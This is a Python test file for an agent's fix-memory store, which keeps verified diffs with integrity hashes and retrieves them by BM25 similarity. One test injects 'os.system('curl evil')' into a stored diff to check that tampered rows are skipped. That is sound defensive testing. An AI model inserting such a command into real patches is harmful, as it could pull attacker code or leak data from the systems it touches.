"""Verified fixes are stored with integrity hashes and retrieved by BM25 similarity."""

from __future__ import annotations

from sqlalchemy import select, update

from app.agents import memory
from app.db import session_scope
from app.models import FixMemory
from app.testing.results import Frame
from app.testing.results import TestOutcome as Outcome

DATE_FIX = "--- a/dates.py\n+++ b/dates.py\n-    return parse_date(s, '%d/%m')\n+    return parse_date(s, '%m/%d')\n"
DIV_FIX = "--- a/stats.py\n+++ b/stats.py\n-    return total / len(xs)\n+    return total / len(xs) if xs else 0.0\n"
KEY_FIX = (
    "--- a/cfg.py\n+++ b/cfg.py\n-    return cfg['timeout']\n+    return cfg.get('timeout', 30)\n"
)


def _fill(url: str) -> dict[str, int]:
    return {
        "date": memory.remember(
            url,
            error_signature="ValueError: time data does not match format at dates.py",
            location="dates.py:12 parse_date",
            diff=DATE_FIX,
            repository="o/r",
        ),
        "div": memory.remember(
            url,
            error_signature="ZeroDivisionError: division by zero at stats.py",
            location="stats.py:4 mean",
            diff=DIV_FIX,
            repository="o/r",
        ),
        "key": memory.remember(
            url,
            error_signature="KeyError: 'timeout' at cfg.py",
            location="cfg.py:8 load",
            diff=KEY_FIX,
            repository="other/repo",
        ),
    }


def test_retrieves_the_most_similar_fix_first(database_url: str) -> None:
    ids = _fill(database_url)
    found = memory.similar(database_url, "ZeroDivisionError: division by zero in mean()", k=2)
    assert [m.id for m in found][:1] == [ids["div"]]
    assert found[0].diff == DIV_FIX and found[0].score > 0
    found = memory.similar(database_url, "KeyError 'timeout' when loading cfg", k=3)
    assert found[0].id == ids["key"]


def test_unrelated_queries_find_nothing(database_url: str) -> None:
    _fill(database_url)
    assert memory.similar(database_url, "segmentation fault in libfoo") == []
    assert memory.similar(database_url, "") == []


def test_retrieval_stays_within_the_repository(database_url: str) -> None:
    ids = _fill(database_url)
    found = memory.similar(database_url, "KeyError timeout cfg", repository="o/r")
    assert ids["key"] not in [m.id for m in found]


def test_remembering_twice_is_one_row(database_url: str) -> None:
    first = memory.remember(database_url, error_signature="E", location="a.py:1", diff="d")
    second = memory.remember(database_url, error_signature="E", location="a.py:1", diff="d")
    assert first == second
    with session_scope(database_url) as session:
        row = session.scalars(select(FixMemory)).one()
    assert row.content_hash == memory.content_hash(None, "E", "a.py:1", "d", "verified")


def test_a_tampered_row_is_skipped(database_url: str) -> None:
    ids = _fill(database_url)
    with session_scope(database_url) as session:
        session.execute(
            update(FixMemory)
            .where(FixMemory.id == ids["div"])
            .values(diff=DIV_FIX + "+import os; os.system('curl evil')\n")
        )
    found = memory.similar(database_url, "ZeroDivisionError division by zero", k=3)
    assert ids["div"] not in [m.id for m in found]


def test_signature_drops_noise_and_keeps_the_last_frame() -> None:
    outcome = Outcome(
        "t::x",
        "failed",
        message="IndexError: list index 7 out of range at 0x7f3a2b\nmore",
        frames=(Frame("tests/t.py", 3), Frame("src/lists.py", 41)),
    )
    assert (
        memory.signature_of(outcome) == "IndexError: list index N out of range at N at src/lists.py"
    )


def test_examples_render_for_prompts() -> None:
    text = memory.render_examples(
        [memory.Memory(1, None, "KeyError", "cfg.py:8", KEY_FIX, "verified")]
    )
    assert text.startswith("Example 1: KeyError\nFixed at: cfg.py:8\n--- a/cfg.py")


def test_tokens_split_identifiers() -> None:
    assert memory.tokens("parseDate parse_date 42") == [
        "parsedate",
        "parse",
        "date",
        "parse_date",
        "parse",
        "date",
        "42",
    ]


def test_remember_fix_from_failing_tests(database_url: str) -> None:
    from app.testing.results import Location

    failing = [
        Outcome("t::a", "failed", message="KeyError: 'port'", frames=(Frame("cfg.py", 3),)),
        Outcome("t::b", "failed", message="KeyError: 'port'", frames=(Frame("cfg.py", 3),)),
    ]
    row = memory.remember_fix(database_url, failing, Location("cfg.py", 3, 1.0), KEY_FIX)
    (found,) = memory.similar(database_url, "KeyError 'port' in cfg")
    assert (found.id, found.error_signature, found.location) == (
        row,
        "KeyError: 'port' at cfg.py",
        "cfg.py:3",
    )
